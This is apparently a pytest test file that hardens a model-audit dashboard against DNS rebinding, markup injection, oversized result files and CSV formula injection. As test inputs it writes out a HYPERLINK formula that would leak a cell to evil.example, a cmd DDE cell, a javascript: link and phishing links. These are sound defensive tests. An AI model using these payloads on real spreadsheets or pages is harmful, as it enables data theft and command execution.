"""The dashboard serves only its own origin and renders files as text (issue 23, class 7): the Host and
websocket Origin it answers, escaping of every label that reaches plotly or a Markdown pane, condition names
checked by the schema, a results view that one broken or huge audit.json cannot blank or stall, the session
cap counting only sessions whose browser connected, and credentials that are what they claim to be."""

import asyncio
import html
import json
import re
import sys
import threading
import time
import urllib.error
import urllib.request
from pathlib import Path

import jsonschema
import pandas as pd
import pytest
from browser import CHROMIUM, CHROMIUM_ARGS, require_browser

from fca_workbench.cli import build_parser, main
from fca_workbench.foundation.errors import UserError
from fca_workbench.results.schema import validate_audit
from fca_workbench.viewmodel.escaping import markdown_text, plotly_text
from fca_workbench.viewmodel.results_folder import ResultsFolder, byte_bounded_cache, keep, kept
from fca_workbench.viewmodel.serving import ServedHosts, serving_auth

ROOT = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(ROOT / "dashboards"))

EVIL = "evil.example"
LINK = f'<a href="http://{EVIL}/phish">click</a>'
MARKDOWN = f"[click here](http://{EVIL}/phish) ![logo](http://{EVIL}/logo.png) http://{EVIL}/bare **bold**"


def minimal_audit(**changes) -> dict:
    """The smallest audit.json the schema accepts, with a per-layer sweep."""
    ci = [0.0, 0.1]
    audit = {
        "schema": "fca-audit/1",
        "model": {"path": "/models/tiny", "arch": "featuregate", "params": 10, "fingerprint": "0" * 64},
        "data": {
            "eval": {"source": "eval", "windows": 2, "window": 8, "tokens": 16},
            "calibration": {"source": "calibration", "windows": 2, "window": 8, "tokens": 16},
        },
        "conditions": {"correct": {"nll": 5.0, "ci95": [4.9, 5.1], "delta": 0.0, "delta_ci95": [0.0, 0.0]}},
        "retention": {},
        "variance": None,
        "variation": None,
        "execution": {
            "blocks_total": 2,
            "blocks_executed": 2,
            "fraction_executed": 1.0,
            "controller_calls": 2,
            "flops": 1,
            "latency_ms": 1.0,
            "dense_latency_ms": 1.0,
            "latency_ratio_vs_dense": 1.0,
        },
        "settings": {"seed": 0, "resamples": 10},
        "per_layer": [
            {"layer": layer, "condition": "layer_mean", "nll": 5.1, "delta": 0.1, "delta_ci95": ci} for layer in (0, 1)
        ],
        "verdict": {"coefficient_variation": "x", "assignment_dependence": "y", "conditional_execution": "z"},
    }
    audit.update(changes)
    return audit


# ------------------------------------------------------------------------------------------------ served names


def test_served_hosts_are_the_served_address_and_the_names_given():
    local = ServedHosts.of("127.0.0.1")
    for host in ("127.0.0.1:5006", "localhost:5006", "LOCALHOST", "[::1]:5006", "127.0.0.1"):
        assert local.allows(host), host
    for host in (f"{EVIL}:5006", EVIL, "127.0.0.1.evil.example", "localhost.evil.example:5006", "10.0.0.7:5006", ""):
        assert not local.allows(host), host
    assert "localhost:5006" in local.websocket_origins(5006) and "*" not in local.websocket_origins(5006)
    lab = ServedHosts.of("127.0.0.1", ["dashboard.lab.example:443"])
    assert lab.allows("dashboard.lab.example:5006") and not lab.allows(EVIL)
    every = ServedHosts.of("0.0.0.0")  # every interface: any IP literal, never a foreign name
    assert every.allows("192.168.1.5:5006") and every.allows("[fe80::1]:5006") and not every.allows(f"{EVIL}:5006")
    assert ServedHosts.of("::1").allows("[::1]:5006")


# ------------------------------------------------------------------------------------------------ text as text


def _rendered_markdown(text: str) -> str:
    import panel as pn

    pane = pn.pane.Alert(text)
    return html.unescape(pane._transform_object(text)["object"])  # the HTML Panel sends to the browser


def test_markdown_panes_show_text_never_links_or_images():
    message = f"checkpoint 'x' cannot be used: unknown model type '{MARKDOWN} {LINK}'\nsecond line"
    assert "<a " in _rendered_markdown(html.escape(message))  # what escaping HTML alone lets through
    shown = _rendered_markdown(markdown_text(message))
    assert "<a " not in shown and "<img" not in shown and "<strong>" not in shown
    assert f"[click here](http://{EVIL}/phish)" in html.unescape(re.sub("<[^>]+>", "", shown))
    assert "<br>second line" in shown


def test_plotly_labels_show_markup_literally():
    import views

    table = pd.DataFrame(
        [
            {"layer": layer, "condition": condition, "delta": 0.1, "delta_ci95_lo": 0.0, "delta_ci95_hi": 0.2}
            for layer in (0, 1)
            for condition in (LINK, "layer_mean")
        ]
    )
    figure = views.per_layer_heatmap(table, f"{LINK}: ΔNLL")
    labels = [*figure["data"][0]["x"], figure["layout"]["title"]["text"]]
    assert all("<" not in label for label in labels), labels
    assert html.unescape(figure["data"][0]["x"][0]) == LINK  # shown as written
    assert plotly_text("<b>&") == "&lt;b&gt;&amp;"


def test_the_schema_allows_only_condition_shaped_names():
    """Any name a condition can be registered under (a registered condition is read by a process that never
    registered it), and nothing else: no markup, no spaces, no capitals."""
    validate_audit(minimal_audit())
    for bad in (LINK, "layer_mean ", "X", "", "x" * 49):
        audit = minimal_audit()
        audit["per_layer"][0]["condition"] = bad
        with pytest.raises(jsonschema.ValidationError):
            validate_audit(audit)


# ------------------------------------------------------------------------------------------------ results view


def _results(tmp_path: Path) -> Path:
    root = tmp_path / "results"
    for name, text in {
        "good": json.dumps(minimal_audit()),
        "deep": '{"schema": "fca-audit/1", "model": ' + "[" * 100_000 + "]" * 100_000 + "}",
        "huge": json.dumps(minimal_audit(padding="x" * (2 << 20))),
        "hostile": json.dumps(minimal_audit(per_layer=[{**minimal_audit()["per_layer"][0], "condition": LINK}])),
    }.items():
        (root / name).mkdir(parents=True)
        (root / name / "audit.json").write_text(text)
    return root


def test_one_broken_or_huge_audit_is_a_problem_and_the_rest_shows(tmp_path):
    results = ResultsFolder(_results(tmp_path), max_bytes=1 << 20)
    entries = {entry.name: entry for entry in results.scan()}
    assert entries["good"].audit is not None
    assert "nested too deeply" in entries["deep"].problem or "cannot be read" in entries["deep"].problem
    assert entries["huge"].problem == "huge/audit.json is larger than 1 MiB: not read"
    assert "hostile/audit.json is not a valid FCA audit (per_layer.0.condition" in entries["hostile"].problem
    assert all(
        "\n" not in (entry.problem or "") and str(tmp_path) not in (entry.problem or "") for entry in entries.values()
    )


def test_results_view_shows_an_audit_it_cannot_draw_as_a_message(tmp_path, monkeypatch):
    import results_view

    view = results_view.ResultsView(ResultsFolder(_results(tmp_path), max_bytes=1 << 20))
    assert "fca-results-problem" in view.problems.object and list(view.select.options.values()) == ["", "good"]
    monkeypatch.setattr(results_view, "audit_tables", lambda audit: {}["per_layer"])  # any failure while drawing
    view.activate()
    assert not view.message.visible  # the overview first: no audit drawn until one is picked
    view.select.value = "good"
    assert view.message.visible and "good: cannot be shown: 'per_layer'" in html.unescape(view.message.object)


def test_results_are_scanned_in_a_worker_thread(tmp_path):
    import results_view

    view = results_view.ResultsView(ResultsFolder(_results(tmp_path)))
    threads = []
    scan = view.results.scan
    view.results.scan = lambda: threads.append(threading.get_ident()) or scan()
    asyncio.run(view.rescan())
    assert threads and threads[0] != threading.get_ident()


def test_caches_are_bounded_by_bytes():
    cache, lock = byte_bounded_cache(100), threading.Lock()
    for key in range(10):
        keep(cache, lock, key, key, 30)
    assert cache.currsize <= 100 and kept(cache, lock, 9) == 9 and kept(cache, lock, 0) is None
    keep(cache, lock, "big", "x", 101)
    assert kept(cache, lock, "big") is None and cache.currsize <= 100


# ------------------------------------------------------------------------------------------------ downloads

HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A2,"open")'
FORMULAS = ["=1+1", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\tx", "\rx"]


def _cells(csv_text: str) -> list[str]:
    import csv
    import io

    return [cell for row in csv.reader(io.StringIO(csv_text)) for cell in row]


def _formula_cells(csv_text: str) -> list[str]:
    """Cells a spreadsheet would evaluate: beginning like a formula and not a plain number."""
    number = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")
    return [c for c in _cells(csv_text) if c[:1] in ("=", "+", "-", "@", "\t", "\r") and not number.fullmatch(c)]


def test_a_download_neutralises_formula_cells_and_keeps_numbers_numbers():
    from fca_workbench.results.tabular import Column, make_table
    from fca_workbench.viewmodel.downloads import download_csv

    columns = [Column("name", "name", "text"), Column("delta", "ΔNLL", "delta"), Column("n", "n", "int")]
    rows = [{"name": text, "delta": -0.5 / (i + 1), "n": -i} for i, text in enumerate([*FORMULAS, "-0.25", "plain"])]
    text = download_csv(make_table("t", "t", columns, rows))
    assert _formula_cells(text) == []
    back = pd.read_csv(__import__("io").StringIO(text), keep_default_na=False)
    assert list(back["name"]) == ["'" + f for f in FORMULAS] + ["-0.25", "plain"]  # a number stays as it is
    assert list(back["delta"]) == [row["delta"] for row in rows] and list(back["n"]) == [row["n"] for row in rows]


def test_every_table_the_results_view_offers_is_neutralised(tmp_path):
    """A folder named like a formula and a model arch holding one: the overview's CSV, every table of the detail
    view and every table of the comparison carry them as text."""
    import results_view

    from fca_workbench.viewmodel.compare import comparison
    from fca_workbench.viewmodel.results_overview import overview_of

    root = tmp_path / "results"
    for name in ("=1+1", "@other"):
        (root / name).mkdir(parents=True)
        model = {**minimal_audit()["model"], "arch": HYPERLINK, "path": f"/models/{name}"}
        (root / name / "audit.json").write_text(json.dumps(minimal_audit(model=model)))
    results = ResultsFolder(root)
    entries = results.scan()
    overview = overview_of(entries).csv("audit", "ascending")
    assert "'=1+1" in _cells(overview) and "'" + HYPERLINK in _cells(overview)
    offered = [overview]
    for entry in entries:
        parts, _ = results_view.rendered(entry, results.full(entry))
        offered += [csv for *_, csv in parts]
    both = [results.full(entry) for entry in entries]
    offered += [
        __import__("fca_workbench.viewmodel.downloads", fromlist=["download_csv"]).download_csv(table)
        for table in comparison(*both, ("=1+1", "@other")).tables
    ]
    assert len(offered) > 4 and all(_formula_cells(text) == [] for text in offered)


def test_the_dashboard_writes_every_csv_through_one_function():
    """No module of the app or the view model writes a table's CSV except through ``downloads.download_csv``."""
    sources = [*(ROOT / "dashboards").glob("*.py"), *(ROOT / "fca_workbench" / "viewmodel").glob("*.py")]
    direct = [p.name for p in sources if p.name != "downloads.py" and re.search(r"\bto_csv\(", p.read_text())]
    assert direct == []


# ------------------------------------------------------------------------------------------------ overview bounds


def _padded(root: Path, count: int) -> Path:
    """``count`` audits, each with 2 MiB the overview never shows (a long per-layer sweep and padding)."""
    sweep = [{**minimal_audit()["per_layer"][0], "layer": layer} for layer in range(5000)]
    for index in range(count):
        (root / f"a{index}").mkdir(parents=True)
        audit = minimal_audit(per_layer=sweep, padding="x" * (1 << 20))
        (root / f"a{index}" / "audit.json").write_text(json.dumps(audit))
    return root


def test_a_scan_holds_only_the_summary_fields_and_reads_the_rest_when_shown(tmp_path):
    results = ResultsFolder(_padded(tmp_path / "results", 2))
    entries = results.scan()
    assert [e.problem for e in entries] == [None, None]
    for entry in entries:
        held = len(json.dumps(entry.audit))
        assert held < 8 << 10, held  # of about 2 MiB on disk
        assert "per_layer" not in entry.audit and "padding" not in entry.audit
        whole = results.full(entry)
        assert len(whole["per_layer"]) == 5000 and len(whole["padding"]) == 1 << 20
        assert {k: whole[k] for k in ("conditions", "execution", "verdict")} == {
            k: entry.audit[k] for k in ("conditions", "execution", "verdict")
        }


def test_a_scan_holds_at_most_its_byte_bound_of_summaries(tmp_path):
    root = _padded(tmp_path / "results", 4)
    one = len(json.dumps(ResultsFolder(root).scan()[0].audit))
    entries = ResultsFolder(root, overview_bytes=2 * one + one // 2).scan()
    assert [e.audit is not None for e in entries] == [True, True, False, False]
    assert all("not listed: the overview holds at most" in e.problem for e in entries[2:])


def test_a_scan_parses_no_new_file_past_its_time_bound_and_the_next_scan_goes_on(tmp_path):
    """A clock that moves 10 s at each look: the scan looks once to start and once before each file it parses."""
    import itertools

    ticks = itertools.count(0, 10)
    results = ResultsFolder(_padded(tmp_path / "results", 3), scan_seconds=15, clock=lambda: next(ticks))
    first = results.scan()
    assert [e.audit is not None for e in first] == [True, False, False]
    assert "this scan reached its 15 s bound" in first[1].problem
    second = results.scan()  # the first is kept: only the second is parsed in time
    assert [e.audit is not None for e in second] == [True, True, False]


# ------------------------------------------------------------------------------------------------ credentials


def _auth(monkeypatch, *argv):
    for variable in ("FCA_BASIC_AUTH", "FCA_COOKIE_SECRET"):
        monkeypatch.delenv(variable, raising=False)
    return serving_auth(build_parser().parse_args(["dashboard", "--address", "0.0.0.0", *argv]))


def test_credentials_are_a_json_object_of_user_to_password(tmp_path, monkeypatch):
    (tmp_path / "secret").write_text("s" * 64)
    secret = ["--cookie-secret-file", str(tmp_path / "secret")]
    for name, text, message in [
        ("typo.json", '{"alice": "pw",}', "is not valid JSON"),
        ("list.json", '["alice", "pw"]', "holds a JSON array, not a JSON object"),
        ("number.json", '{"alice": 1}', "user 'alice' needs a non-empty password string"),
        ("empty.json", "{}", "names no user"),
        ("deep.json", "[" * 100_000, "nested too deeply"),
    ]:
        (tmp_path / name).write_text(text)
        with pytest.raises(UserError, match=re.escape(message)):
            _auth(monkeypatch, "--basic-auth-file", str(tmp_path / name), *secret)
    (tmp_path / "users.json").write_text(json.dumps({"alice": "pw"}))
    assert _auth(monkeypatch, "--basic-auth-file", str(tmp_path / "users.json"), *secret)["basic_auth"] == str(
        tmp_path / "users.json"
    )
    (tmp_path / "password").write_text("hunter2\n")
    assert _auth(monkeypatch, "--basic-auth-password-file", str(tmp_path / "password"), *secret)["basic_auth"] == (
        "hunter2"
    )
    monkeypatch.setenv("FCA_BASIC_AUTH", str(tmp_path / "typo.json"))  # a file named by the variable: credentials
    monkeypatch.setenv("FCA_COOKIE_SECRET", "c" * 64)
    with pytest.raises(UserError, match="is not valid JSON"):
        serving_auth(build_parser().parse_args(["dashboard"]))


def test_a_password_on_the_command_line_is_refused(tmp_path, monkeypatch, capsys):
    for variable in ("FCA_BASIC_AUTH", "FCA_COOKIE_SECRET"):
        monkeypatch.delenv(variable, raising=False)
    missing = ["--registry", str(tmp_path / "missing.json")]  # were the refusal absent, this error would show
    assert main(["dashboard", "--basic-auth", "hunter2", "--cookie-secret", "s", *missing]) == 2
    err = capsys.readouterr().err.strip().splitlines()
    assert len(err) == 1 and "--basic-auth on the command line is visible" in err[0]
    assert "--basic-auth-file" in err[0] and "--basic-auth-password-file" in err[0] and "FCA_BASIC_AUTH" in err[0]
    assert "hunter2" not in err[0]


# ------------------------------------------------------------------------------------------------ a real server


def _get(url: str, host: str) -> tuple[int, str]:
    request = urllib.request.Request(url, headers={"Host": host})
    try:
        with urllib.request.urlopen(request, timeout=30) as response:
            return response.status, response.read().decode()
    except urllib.error.HTTPError as exc:
        return exc.code, ""


def _websocket(port: int, token: str, host: str, origin: str) -> str:
    """'accepted' or 'refused': one websocket handshake with these Host and Origin headers."""
    from tornado.httpclient import HTTPClientError, HTTPRequest
    from tornado.websocket import websocket_connect

    async def handshake() -> str:
        request = HTTPRequest(f"ws://127.0.0.1:{port}/ws", headers={"Host": host, "Origin": origin})
        try:
            connection = await websocket_connect(request, subprotocols=["bokeh", token])
        except HTTPClientError as exc:
            assert exc.code == 403
            return "refused"
        connection.close()
        return "accepted"

    return asyncio.run(handshake())


def test_only_the_served_names_get_the_app_or_its_websocket(tiny_checkpoints, tmp_path):
    from test_dashboard import dashboard_server

    registry = {"fg": str(tiny_checkpoints["featuregate"])}
    with dashboard_server(tmp_path, registry, "--allow-host", "lab.example") as (url, log):
        port = int(url.rsplit(":", 1)[1].strip("/"))
        status, page = _get(url, f"127.0.0.1:{port}")
        assert status == 200 and "<title>FCA dashboard</title>" in page
        assert _get(url, f"localhost:{port}")[0] == 200 and _get(url, f"lab.example:{port}")[0] == 200
        for foreign in (f"{EVIL}:{port}", f"127.0.0.1.{EVIL}:{port}"):  # a rebinding page's name
            assert _get(url, foreign)[0] == 403
            assert _get(url + "static/js/bokeh.min.js", foreign)[0] == 403
        token = re.search(r'"token":\s*"([^"]+)"', page).group(1)
        assert _websocket(port, token, f"{EVIL}:{port}", f"http://{EVIL}:{port}") == "refused"  # rebinding
        assert _websocket(port, token, f"127.0.0.1:{port}", f"http://{EVIL}:{port}") == "refused"  # foreign page
        assert _websocket(port, token, f"127.0.0.1:{port}", f"http://127.0.0.1:{port}") == "accepted"
        assert "Traceback" not in log.read_text()


# ------------------------------------------------------------------------------------------------ a real browser


def _browser(playwright, *args: str):
    return playwright.chromium.launch(executable_path=CHROMIUM, args=[*CHROMIUM_ARGS, *args])


def _links_to(page, host: str) -> list[str]:
    """Every element of the page (shadow roots included) with an href or src to ``host``."""
    return page.evaluate(
        """(host) => {
            const found = [];
            const walk = (root) => root.querySelectorAll('*').forEach(el => {
                if (el.shadowRoot) walk(el.shadowRoot);
                for (const name of ['href', 'src', 'xlink:href'])
                    if ((el.getAttribute(name) || '').includes(host)) found.push(el.outerHTML.slice(0, 200));
            });
            walk(document);
            return found;
        }""",
        host,
    )


def _wait_for(page, selector: str, seconds: float = 90) -> None:
    page.wait_for_selector(selector, state="attached", timeout=seconds * 1000)


@pytest.mark.timeout(600)
def test_in_a_browser_no_rebinding_no_link_no_remote_fetch(tiny_checkpoints, tmp_path):
    """A page reached by a foreign name gets 403; a checkpoint whose model_type is Markdown and an audit whose
    model path and condition hold links show as text: no link from the data in the page, no request for it."""
    require_browser()
    from playwright.sync_api import sync_playwright
    from test_dashboard import dashboard_server

    phish = tmp_path / "phish"
    phish.mkdir()
    (phish / "config.json").write_text(json.dumps({"model_type": f"{MARKDOWN} {LINK}"}))
    results = _results(tmp_path)
    crafted = results / "crafted"
    crafted.mkdir()
    named = "<a href=javascript:alert(1)>tiny<a>"  # the model's folder name, shown in the figure's title
    model = {**minimal_audit()["model"], "path": f"/models/{named}"}
    (crafted / "audit.json").write_text(json.dumps(minimal_audit(model=model)))
    registry = {"phish": str(phish), "fg": str(tiny_checkpoints["featuregate"])}
    with dashboard_server(tmp_path, registry, "--results", str(results)) as (url, log):
        port = int(url.rsplit(":", 1)[1].strip("/"))
        with sync_playwright() as playwright:
            browser = _browser(playwright, f"--host-resolver-rules=MAP {EVIL} 127.0.0.1")
            try:
                page = browser.new_page()
                remote = []

                def route(request_route):
                    if EVIL in request_route.request.url and f"{EVIL}:{port}" not in request_route.request.url:
                        remote.append(request_route.request.url)
                        return request_route.abort()
                    return request_route.continue_()

                page.route("**/*", route)
                response = page.goto(f"http://{EVIL}:{port}/")  # the rebinding page: resolves to this server
                assert response.status == 403 and page.locator(".fca-checkpoint").count() == 0
                page.goto(url + "?view=results&audit=hostile")  # refused by the schema: listed as a problem
                _wait_for(page, ".fca-results-problem[data-entry='hostile']")
                problem = page.locator(".fca-results-problem[data-entry='hostile']").inner_text()
                assert "does not match" in problem and LINK in problem  # the data, as text
                page.wait_for_timeout(2000)  # what a link to it would have drawn
                assert _links_to(page, EVIL) == []
                page.goto(url + "?view=results&audit=crafted")
                _wait_for(page, ".fca-results-per-layer .main-svg")
                assert named in page.locator(".fca-results-per-layer .gtitle").text_content()
                assert (
                    page.locator(".fca-results-per-layer .main-svg a").count() == 0
                )  # plotly draws a link as an svg a
                page.goto(url + "?checkpoint=phish")
                _wait_for(page, ".fca-message .fca-text")
                message = page.locator(".fca-message .fca-text").inner_text()
                assert f"[click here](http://{EVIL}/phish)" in message and "<a href" in message
                assert _links_to(page, EVIL) == [] and remote == []
                _wait_for(page, ".fca-update")  # the update shown: closing the page interrupts no write
            finally:
                browser.close()
        assert "Traceback" not in log.read_text()


@pytest.mark.timeout(600)
def test_plain_gets_take_no_place_and_one_over_the_cap_gets_a_polite_page(tiny_checkpoints, tmp_path):
    require_browser()
    from playwright.sync_api import sync_playwright
    from test_dashboard import assert_quiet, dashboard_server

    registry = {"fg": str(tiny_checkpoints["featuregate"])}
    with dashboard_server(tmp_path, registry, "--max-sessions", "1") as (url, log):
        for _ in range(6):  # sessions that never open the websocket
            urllib.request.urlopen(url, timeout=30).read()
        with sync_playwright() as playwright:
            browser = _browser(playwright)
            try:
                first = browser.new_page()
                first.goto(url)
                _wait_for(first, ".fca-checkpoint, .fca-server-full")
                assert first.locator(".fca-checkpoint").count() == 1  # the GETs locked nobody out
                _wait_for(first, ".fca-update")  # its first update shown: closing it interrupts no write
                over = browser.new_page()
                over.goto(url)
                _wait_for(over, ".fca-server-full")
                assert (
                    "The FCA dashboard is full: 1 sessions are open" in over.locator(".fca-server-full p").inner_text()
                )
                over.close()
                first.close()
                while True:  # a closed tab's place is freed once its session is reaped; the test's timeout bounds it
                    again = browser.new_page()
                    again.goto(url)
                    _wait_for(again, ".fca-checkpoint, .fca-server-full")
                    if again.locator(".fca-checkpoint").count():
                        _wait_for(again, ".fca-update")
                        break
                    again.close()
                    time.sleep(2)
            finally:
                browser.close()
        assert_quiet(log)


@pytest.mark.parametrize("flag", ["--basic-auth-password-file", "--cookie-secret-file"])
def test_a_secret_file_is_read_with_a_cap(flag, tmp_path, monkeypatch):
    """``/dev/zero`` as a secret file: one line, never an endless read."""
    (tmp_path / "secret").write_text("s" * 64)
    other = "--cookie-secret-file" if flag != "--cookie-secret-file" else "--basic-auth-password-file"
    with pytest.raises(UserError, match=f"{flag}: /dev/zero is larger than 65536 bytes") as error:
        _auth(monkeypatch, flag, "/dev/zero", other, str(tmp_path / "secret"))
    assert "\n" not in str(error.value)


def test_fca_basic_auth_naming_a_missing_file_is_an_error_not_a_password(tmp_path, monkeypatch):
    monkeypatch.setenv("FCA_COOKIE_SECRET", "c" * 64)
    for missing in (str(tmp_path / "users.json"), str(tmp_path / "users"), "./users.json"):
        monkeypatch.setenv("FCA_BASIC_AUTH", missing)
        with pytest.raises(UserError, match="cannot read"):
            serving_auth(build_parser().parse_args(["dashboard"]))
    monkeypatch.setenv("FCA_BASIC_AUTH", "hunter2")  # a password
    assert serving_auth(build_parser().parse_args(["dashboard"]))["basic_auth"] == "hunter2"
